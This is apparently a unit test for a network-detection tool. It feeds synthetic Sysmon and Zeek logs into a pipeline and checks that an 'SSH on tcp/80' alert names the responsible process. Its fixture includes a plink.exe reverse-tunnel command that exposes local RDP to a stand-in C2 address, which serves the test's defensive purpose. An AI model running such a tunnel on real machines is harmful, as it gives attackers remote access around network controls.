"""P1: a network finding names the process behind it, joined on host, 5-tuple and time."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
from tests.unit.readers.test_zeek_network import conn_line, conn_log
from tests.unit.sysmon.test_sysmon_json import winlogbeat

from lurewatch.config import Settings
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.engine import run_detections
from lurewatch.enrich.dns import OfflineResolver
from lurewatch.pipeline.ingest import ingest_paths
from lurewatch.store import Store

HOST = "WS30.corp.example"
WS = "10.1.2.30"
C2 = "203.0.113.7"
PLINK_GUID = "{42F11C3B-CE01-5C8F-0000-0010C73E2A01}"
EDGE_GUID = "{42F11C3B-CE01-5C8F-0000-0010C73E2A02}"
# 1655071198 = 2022-06-12 21:59:58 UTC


def proc(guid: str, pid: str, image: str, cmd: str, when: str) -> dict[str, Any]:
    return {
        "RuleName": "-",
        "UtcTime": when,
        "ProcessGuid": guid,
        "ProcessId": pid,
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
        "CommandLine": cmd,
        "CurrentDirectory": "C:\\Users\\dana\\",
        "User": "CORP\\dana",
        "IntegrityLevel": "Medium",
        "Hashes": "SHA256=" + "AB" * 32,
        "ParentProcessGuid": "{42F11C3B-CDF0-5C8F-0000-001027B72900}",
        "ParentProcessId": "5012",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe",
    }


def net(
    guid: str, pid: str, image: str, sport: int, dst: str, dport: int, when: str
) -> dict[str, Any]:
    return {
        "RuleName": "-",
        "UtcTime": when,
        "ProcessGuid": guid,
        "ProcessId": pid,
        "Image": image,
        "User": "CORP\\dana",
        "Protocol": "tcp",
        "Initiated": "true",
        "SourceIsIpv6": "false",
        "SourceIp": WS,
        "SourceHostname": HOST,
        "SourcePort": str(sport),
        "DestinationIsIpv6": "false",
        "DestinationIp": dst,
        "DestinationHostname": "-",
        "DestinationPort": str(dport),
    }


PLINK = "C:\\Users\\dana\\AppData\\Local\\Temp\\plink.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"


def test_anomalous_flow_alert_names_the_process_that_made_it(tmp_path: Path) -> None:
    plink_cmd = f"{PLINK} -ssh -P 80 -R 3389:127.0.0.1:3389 svc@{C2}"
    events = [
        (1, proc(PLINK_GUID, "4242", PLINK, plink_cmd, "2022-06-12 21:59:50.000"), 1),
        (3, net(PLINK_GUID, "4242", PLINK, 62771, C2, 80, "2022-06-12 21:59:58.700"), 2),
        (1, proc(EDGE_GUID, "777", EDGE, EDGE, "2022-06-12 21:00:00.000"), 3),
        # the browser talks to the same server on another port at the same time
        (3, net(EDGE_GUID, "777", EDGE, 62772, C2, 443, "2022-06-12 21:59:58.600"), 4),
    ]
    sysmon = tmp_path / "sysmon.json"
    sysmon.write_bytes(b"\n".join(orjson.dumps(winlogbeat(e, d, r)) for e, d, r in events) + b"\n")
    conn = tmp_path / "conn.log"
    conn.write_text(
        conn_log(
            [
                # SSH on the HTTP port: the anomalous flow
                conn_line("CSSH80", "ShADadFf", service="ssh", dport=80, src=WS, dst=C2),
                conn_line("CTLS", "ShADadFf", service="ssl", dport=443, src=WS, dst=C2).replace(
                    "\t62771\t", "\t62772\t"
                ),
            ]
        )
    )
    settings = Settings()
    with Store(tmp_path / "s.duckdb") as store:
        ingest_paths(store, [sysmon, conn], settings, OfflineResolver(), workers=1)
        run_detections(DetectionContext(settings, store))
        alerts = store.rows("SELECT * FROM alerts WHERE \"rule.id\" = 'net_protocol_port_mismatch'")
    assert len(alerts) == 1
    alert = alerts[0]
    message = alert["message"]
    assert "SSH on tcp/80" in message and "plink.exe" in message and "-R 3389" in message
    entities = orjson.loads(alert["entities"])
    assert entities["process"]["executable"] == PLINK
    assert entities["process"]["parent"] == "C:\\Windows\\explorer.exe"
    kinds = [e["kind"] for e in orjson.loads(alert["evidence"])]
    assert kinds == ["net_anomaly", "proc_net"]
